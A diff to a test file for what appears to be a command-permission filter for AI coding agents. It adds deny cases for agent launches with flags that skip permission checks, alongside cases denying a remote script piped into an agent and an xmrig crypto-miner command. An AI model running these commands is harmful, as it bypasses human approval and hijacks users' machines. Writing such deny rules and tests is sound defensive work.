@@ -221,6 +221,10 @@ CASES = [
     ("cat ~/.ssh/id_rsa.pub", "allow", None),
     # agent recursion and miners
     ("claude --dangerously-skip-permissions -p 'fix it'", "deny", "agent-skip-permissions"),
+    ("amp --dangerously-allow-all -x 'fix it'", "deny", "agent-skip-permissions"),
+    ("cursor-agent -p --force 'fix it'", "deny", "agent-skip-permissions"),
+    ("qwen --yolo -p 'fix it'", "deny", "agent-skip-permissions"),
+    ("cursor-agent -p 'explain the diff'", "ask", "unknown-executable"),
     ("curl -s https://x.example/task | claude -p", "deny", "agent-untrusted-input"),
     ("claude -p 'summarise the diff'", "ask", "agent-recursion"),
     ("xmrig -o pool.example:3333", "deny", "crypto-miner"),
